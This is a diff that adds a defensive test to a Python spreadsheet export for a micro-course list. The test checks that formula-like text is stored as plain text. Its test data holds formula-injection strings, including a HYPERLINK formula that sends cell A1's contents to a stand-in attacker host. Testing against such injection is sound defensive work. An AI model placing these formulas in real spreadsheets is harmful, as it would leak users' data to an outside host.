@@ -39,3 +39,20 @@ def test_same_content_same_bytes_and_excel_readable(tmp_path):
     reread = load_workbook(tmp_path / "a.xlsx")
     assert [tuple(r) for r in reread["微课清单"].iter_rows(values_only=True)] == rows
     assert reread.properties.created == FIXED_DOCUMENT_TIME
+
+
+#: Authored text that spreadsheet programs would run or read as a formula.
+HOSTILE_CELLS = ("=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"点击")', "+86-571", "-2+3", "@SUM(A1:A9)",
+                 "\t=1+1", "\r=1+1")
+
+
+def test_text_that_looks_like_a_formula_stays_text(tmp_path):
+    rows = [("微课名称", "联系人"), *((text, text) for text in HOSTILE_CELLS)]
+    save_workbook(make_workbook(rows), tmp_path / "hostile.xlsx")
+    sheet = load_workbook(tmp_path / "hostile.xlsx")["微课清单"]
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert [cell.value for cell in cells[::2]] == list(HOSTILE_CELLS)  # the text, unchanged
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert all(cell.quotePrefix for cell in cells)  # Excel keeps it text even after an edit
+    with zipfile.ZipFile(tmp_path / "hostile.xlsx") as package:
+        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()
